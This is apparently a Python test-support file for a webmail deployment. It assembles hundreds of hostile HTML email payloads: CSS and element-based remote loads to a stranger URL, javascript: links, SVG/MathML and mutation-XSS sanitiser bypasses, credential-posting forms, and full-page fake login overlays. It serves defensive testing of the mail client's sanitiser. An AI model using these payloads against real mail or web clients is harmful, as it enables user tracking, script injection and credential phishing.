"""Messages that try to get out of their place: to others without a question, and over the page.

They are made by hand, one technique a line. `{url}` is an address of a stranger that ends with the technique's name, so
that a request says where it came from.
"""

# ruff: noqa: E501

from __future__ import annotations

import itertools
from email.message import EmailMessage

from ansible_collections.ilnmors.mail.tests.behaviour.support import clients

STYLES = """
background:url({url})
background:url({url})!important
background-image:url("{url}")!important
background-image:linear-gradient(red,red),url({url})
background-image:image-set("{url}" 1x)
background-image:-webkit-image-set(url({url}) 1x)
background-image:cross-fade(url({url}),red 50%)
background-image:-webkit-cross-fade(url({url}),url({url}),50%)
background-image:image({url})
background-image:src("{url}")
background:\\75rl({url})
background:u\\72 l({url})
background:url(/**/{url})
background:/**/url(\\{url})
--x:url({url});background:var(--x)
background-image:env(x,url({url}))
border-image:url({url}) 1
border-image:url({url}) 1!important
border-image-source:url({url})!important
-webkit-border-image:url({url}) 1 1 1 1
-webkit-box-image:url({url})
-webkit-box-reflect:below 0 url({url})
list-style:url({url});display:list-item
list-style-image:url({url})!important;display:list-item
content:url({url})
content:url({url})!important
cursor:url({url}),auto
cursor:url({url}),auto!important
mask:url({url})
mask-image:url({url})!important
-webkit-mask:url({url})
-webkit-mask-image:url({url})!important
-webkit-mask-box-image:url({url})
mask-border-source:url({url})
shape-outside:url({url});float:left
shape-outside:url({url})!important;float:left
clip-path:url({url}#a)
clip-path:url({url}#a)!important
-webkit-clip-path:url({url}#a)
filter:url({url}#a)
filter:url({url}#a)!important
-webkit-filter:url({url}#a)
backdrop-filter:url({url}#a)
offset-path:url({url}#a)
fill:url({url}#a)
marker:url({url}#a)
behavior:url({url})
-moz-binding:url({url})
color:red;}}@import '{url}';{{
animation:a 1s;font-family:a,url({url})
width:expression(new Image().src='{url}')
"""

SHEETS = """
@import '{url}';
@import url({url}) screen;
@font-face {{ font-family: a; src: url({url}) }} * {{ font-family: a !important }}
* {{ background: url({url}) !important }}
:root {{ background: url({url}) }} html, body {{ background-image: url({url}) }}
@media all {{ * {{ border-image: url({url}) 1 !important }} }}
@supports (color: red) {{ * {{ list-style-image: url({url}) !important; display: list-item }} }}
@layer a {{ * {{ mask-image: url({url}) }} }}
@page {{ background: url({url}) }}
*::before {{ content: url({url}) }}
*::selection {{ background: url({url}) }}
#top-system-dropdown-id {{ display: none }} input[name=Email] {{ background: url({url}) }}
"""

ELEMENTS = """
<img srcset="{url} 1x">
<img/srcset="{url} 1x"/src=x>
<img src="cid:nobody" srcset="{url} 1x">
<img sizes="100vw" srcset="{url} 100w, {url} 200w">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" srcset={url}>
<img lowsrc="{url}" dynsrc="{url}" longdesc="{url}">
<img alt=x attributionsrc="{url}">
<img data-x-src="{url}" data-src="{url}" loading=eager>
<picture><source srcset="{url}"><img alt=x></picture>
<input type=image src="{url}">
<input type=image srcset="{url}" formaction="{url}">
<video poster="{url}" src="{url}" autoplay muted></video>
<video autoplay><source src="{url}"><track default src="{url}"></video>
<audio src="{url}" autoplay preload></audio>
<embed src="{url}">
<object data="{url}"><param name=src value="{url}"></object>
<object type="text/html" data="{url}"></object>
<applet code=a codebase="{url}" archive="{url}"></applet>
<iframe src="{url}"></iframe>
<iframe srcdoc="&lt;img src={url}&gt;"></iframe>
<frameset><frame src="{url}"></frameset>
<portal src="{url}"></portal>
<fencedframe src="{url}"></fencedframe>
<link rel=stylesheet href="{url}">
<link rel=prefetch href="{url}">
<link rel=preload as=image href="{url}" imagesrcset="{url}">
<link rel=modulepreload href="{url}">
<link rel=prerender href="{url}">
<link rel=preconnect href="{url}">
<link rel=dns-prefetch href="{url}">
<link rel="icon shortcut" href="{url}">
<link rel=manifest href="{url}">
<base href="{url}/">
<meta http-equiv=refresh content="0;url={url}">
<meta http-equiv=Link content="<{url}>; rel=preload; as=image">
<meta http-equiv=Content-Security-Policy content="default-src *; report-uri {url}">
<script src="{url}"></script>
<script>new Image().src = '{url}'; window.owned = 1</script>
<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{url}"]}}]}}</script>
<body onload="window.owned = 1"><p>x</p>
<bgsound src="{url}">
<isindex src="{url}" type=image>
<menuitem icon="{url}">
<template><img src="{url}" onerror="window.owned = 1"></template>
<div><template shadowrootmode=open><img src="{url}"><style>* {{ background: url({url}) }}</style></template></div>
<img src=x onerror="window.owned = 1; new Image().src = '{url}'">
<details open ontoggle="window.owned = 1"><summary>x</summary></details>
<p style="animation: a 1ms" onanimationstart="window.owned = 1">x</p>
<a href="{url}" ping="{url}" id=location name=cookie>a link that may stay</a>
<marquee onstart="window.owned = 1" loop=1>x</marquee>
"""

FORMS = """
<form action="{url}" id=f><input name=password type=password autofocus onfocus="window.owned = 1"></form>
<form action="{url}" method=post><button>Log in</button></form>
<button form=f formaction="{url}" onclick="window.owned = 1">Log in</button>
<form id=rl name=rl><input name=app></form>
<input type=submit formaction="{url}" value="Log in">
<select autofocus onfocus="window.owned = 1"><option>x</select>
<textarea autofocus onfocus="window.owned = 1">x</textarea>
<isindex action="{url}" prompt="Password">
<dialog open><form method=dialog action="{url}"><input type=password></form></dialog>
<p contenteditable onfocus="window.owned = 1" tabindex=1 autofocus>x</p>
<div popover=manual id=p><img src=x srcset="{url}"></div><button popovertarget=p>Log in</button>
"""

LINKS = """
<a href="javascript:window.owned=1">x</a>
<a href="JaVaScRiPt:window.owned=1">x</a>
<a href=" &#1; javascript:window.owned=1">x</a>
<a href="java&Tab;script&colon;window.owned=1">x</a>
<a href="java&#10;script:window.owned=1">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:window.owned=1">x</a>
<a href="data:text/html,<script>opener.owned=1</script>">x</a>
<a href="vbscript:owned">x</a>
<a href="view-source:{url}">x</a>
<a href="blob:{url}">x</a>
<a href="filesystem:{url}">x</a>
<a href="/?/Json/&q[]=/0/Logout/&q[]=/0/">x</a>
<a href=x href="javascript:window.owned=1" onclick="window.owned = 1">x</a>
<a xlink:href="javascript:window.owned=1">x</a>
<map name=m><area shape=rect coords=0,0,99,99 href="javascript:window.owned=1"></map><img usemap=#m alt=x>
"""

FOREIGN = """
<svg><image href="{url}" width=9 height=9></image></svg>
<svg><image xlink:href="{url}" width=9 height=9></image></svg>
<svg><use href="{url}#a"></use></svg>
<svg><use xlink:href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='{url}'/></svg>#a"/></svg>
<svg width=9 height=9><filter id=f><feImage href="{url}"></feImage></filter><rect width=9 height=9 filter="url(#f)"/></svg>
<svg width=9 height=9><pattern id=p href="{url}#p"></pattern><rect width=9 height=9 fill="url({url}#p)"/></svg>
<svg width=9 height=9><rect width=9 height=9 mask="url({url}#m)" clip-path="url({url}#c)" cursor="url({url})"/></svg>
<svg><style>@import '{url}'; * {{ background: url({url}) }}</style></svg>
<svg><foreignObject width=9 height=9><img srcset="{url}"><iframe src="{url}"></iframe></foreignObject></svg>
<svg><script href="{url}"></script><script xlink:href="{url}"></script></svg>
<svg><script>window.owned = 1</script></svg>
<svg onload="window.owned = 1"><g/onload="window.owned = 1"></g></svg>
<svg><animate attributeName=x begin=0s dur=1ms onbegin="window.owned = 1" onend="window.owned = 1"></animate></svg>
<svg><image><animate attributeName=href values="{url}" dur=1s></animate><set attributeName=href to="{url}"></set></image></svg>
<svg><a href="javascript:window.owned=1"><animate attributeName=href values="javascript:window.owned=1"/><text>x</text></a></svg>
<svg><link rel=stylesheet href="{url}" xmlns="http://www.w3.org/1999/xhtml"></link></svg>
<svg><textPath href="{url}#t">x</textPath><linearGradient href="{url}#g"/><mpath href="{url}#m"/></svg>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><color-profile xlink:href="{url}" /><font-face-uri xlink:href="{url}"/></svg>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=">
<math href="javascript:window.owned=1"><mtext>x</mtext></math>
<math xlink:href="javascript:window.owned=1"><maction actiontype="statusline#{url}" xlink:href="{url}">x</maction></math>
<math><annotation-xml encoding="text/html"><img srcset="{url}"><style>@import '{url}'</style></annotation-xml></math>
<math><mglyph src="{url}"></mglyph><mi background="{url}" style="background:url({url})">x</mi></math>
<math><semantics><annotation src="{url}"></annotation></semantics></math>
"""

MUTATIONS = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img srcset={url} src=x onerror=window.owned=1&gt;">
<math><mtext><table><mglyph><style><math href="</style><img srcset={url} src=x onerror=window.owned=1>"></math>
<form><math><mtext></form><form><mglyph><style></math><img srcset={url} src=x onerror=window.owned=1>
<svg></p><style><a id="</style><img srcset={url} src=x onerror=window.owned=1>">
<svg><p><style><g title="</style><img srcset={url} src=x onerror=window.owned=1>">
<svg><desc><noscript><p title="</noscript><img srcset={url} src=x onerror=window.owned=1>"></desc></svg>
<noscript><p title="</noscript><img srcset={url} src=x onerror=window.owned=1>"></noscript>
<noembed><p title="</noembed><img srcset={url} src=x onerror=window.owned=1>"></noembed>
<xmp><p title="</xmp><img srcset={url} src=x onerror=window.owned=1>"></xmp>
<iframe><p title="</iframe><img srcset={url} src=x onerror=window.owned=1>"></iframe>
<select><style></select><img srcset={url} src=x onerror=window.owned=1></style>
<select><template><img srcset={url} src=x onerror=window.owned=1></template></select>
<svg><![CDATA[><img srcset={url} src=x onerror=window.owned=1>]]></svg>
<![CDATA[<img srcset={url} src=x onerror=window.owned=1>]]>
<?xml-stylesheet href="{url}"?><?php <img srcset={url} src=x onerror=window.owned=1>?>
<!--><img srcset={url} src=x onerror=window.owned=1>-->
<!---><img srcset={url} src=x onerror=window.owned=1>-->
<!-- a --!><img srcset={url} src=x onerror=window.owned=1>-->
<!-- <!-- --><img srcset={url} src=x onerror=window.owned=1> -->
<!--[if gte IE 4]><img srcset={url} src=x onerror=window.owned=1><![endif]-->
<![if true]><img srcset={url} src=x onerror=window.owned=1><![endif]>
</><img srcset={url} src=x onerror=window.owned=1></ x>
<img title="a>b" srcset={url} src=x onerror=window.owned=1>
<img title='"><img srcset={url} src=x onerror=window.owned=1>'>
<img title=`><img srcset={url} src=x onerror=window.owned=1>`>
<img \f/ srcset={url}\tsrc=x/onerror=window.owned=1>
<img =srcset={url} srcset={url}>
<im\0g srcset={url}><img src\0set={url}><im\u2028g srcset={url}>
<img ''''srcset={url} src=x onerror=window.owned=1>
<<img srcset={url}><</img srcset={url}>
<a href="x"<img srcset={url}>x</a>
<body title="<body background={url}>" style="background:url({url}) x" a="><img srcset={url}>"><p>x</p>
<div title="<head><img srcset={url}></head>"><head a="</head><img srcset={url}>"></div>
<span class="preview-text" title="</span><img srcset={url}>"></span>
<p title="<br></p><img srcset={url} src=x onerror=window.owned=1>">
<p>&lt;img srcset={url} src=x onerror=window.owned=1&gt;&#60;img srcset={url}&#62;&amp;lt;img srcset={url}&amp;gt;</p>
<blockquote><summary><details title="</details><img srcset={url}>"></blockquote>
<table><img srcset={url}><tr><a href=x><td><a href=y><table><form><input type=image src={url}></table></table>
<style><style/><img srcset={url} src=x onerror=window.owned=1></style>
<title><img srcset={url} src=x onerror=window.owned=1></title><textarea></textarea><img srcset={url}></textarea>
"""

UNFINISHED = (
    '<p>x</p><img srcset="{url}" src="x',
    "<p>x</p><style>* {{ background: url({url}) ",
    "<p>x</p><!-- <img srcset={url}>",
    "<p>x</p><plaintext><img srcset={url}></plaintext><img srcset={url}>",
    "<p>x</p><textarea><img srcset={url} src=x onerror=window.owned=1>",
    "<p>x</p><svg><style><img srcset={url} src=x onerror=window.owned=1>",
)

OVERLAYS = """
<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Log in again <input></div>
<div style="position:fixed !important;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#ffe">Log in</div>
<div style="position:absolute;top:-2000px;left:-2000px;width:9000px;height:9000px;z-index:99999;background:#eff">x</div>
<div style="position:sticky;top:-900px;margin-top:-900px;height:900px;z-index:9999;background:#fef">x</div>
<div style="margin:-900px -2000px;height:1800px;width:9000px;background:#efe;position:relative;z-index:9">x</div>
<div style="transform:translate(-900px,-900px) scale(40);background:#eef;z-index:9">x</div>
<div style="box-shadow:0 0 0 9999px #fee;outline:9999px solid #fee">x</div>
<p style="text-indent:-9999px;font-size:900px;line-height:9;letter-spacing:900px">x</p>
<table style="position:fixed;inset:0" width=9000 height=9000 bgcolor=#fff><tr><td>Log in</td></tr></table>
<div style="all:initial;position:fixed;inset:0;contain:none;display:block;background:#fff">x</div>
<style>.bodyText, .b-text-part, #rl-app * { contain: none !important } b { position: fixed; inset: 0 }</style><b>Log in</b>
<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">Log in</dialog>
<div popover=manual style="display:block;position:fixed;inset:0">Log in</div>
"""


def numbered(kind: str, lines: str, url: str) -> list[str]:
    """Return one snippet for each line, each with an address that names it."""
    snippets = enumerate(lines.strip("\n").split("\n"), 1)
    return [
        line.replace("{{", "{").replace("}}", "}").replace("{url}", f"{url}/{kind}-{i}")
        for i, line in snippets
    ]


def pages(url: str) -> dict[str, str]:
    """Return the HTML of messages, by what they try."""
    styles = [f"<div style='{one}'>x</div>" for one in numbered("style", STYLES.replace("'", '"'), url)]
    joined = {
        "style": styles,
        "sheet": [f"<style>{one}</style><p>x</p>" for one in numbered("sheet", SHEETS, url)],
        "element": numbered("element", ELEMENTS, url),
        "form": numbered("form", FORMS, url),
        "link": numbered("link", LINKS, url),
        "foreign": numbered("foreign", FOREIGN, url),
        "overlay": [OVERLAYS],
    }
    # What does not end where it seems to would hide the rest, were there much of it.
    mutations = numbered("mutation", MUTATIONS, url)
    for start in range(0, len(mutations), 8):
        joined[f"mutation-{start + 1}"] = mutations[start : start + 8]
    for number, one in enumerate(UNFINISHED, 1):
        joined[f"unfinished-{number}"] = numbered(f"unfinished-{number}", one, url)
    deep = itertools.chain(
        ["<div>"] * 5000, ["<b><i><font color=red>"] * 2000, [f"<img srcset={url}/deep-1>"]
    )
    return {name: "\n".join(["<p>First</p>", *lines]) for name, lines in {**joined, "deep": deep}.items()}


def html_message(recipient: str, subject: str, html: str) -> EmailMessage:
    """Return a message with a page, and with a word of text for those who want none."""
    new = clients.message("stranger@example.org", recipient)
    new.replace_header("Subject", subject)
    new.add_alternative(html, subtype="html", cte="base64")
    return new


def attach(new: EmailMessage, name: str, content: bytes, content_type: str) -> None:
    """Add a file to a message, whose name is as it is given."""
    maintype, subtype = content_type.split("/")
    new.add_attachment(content, maintype=maintype, subtype=subtype, filename=name)
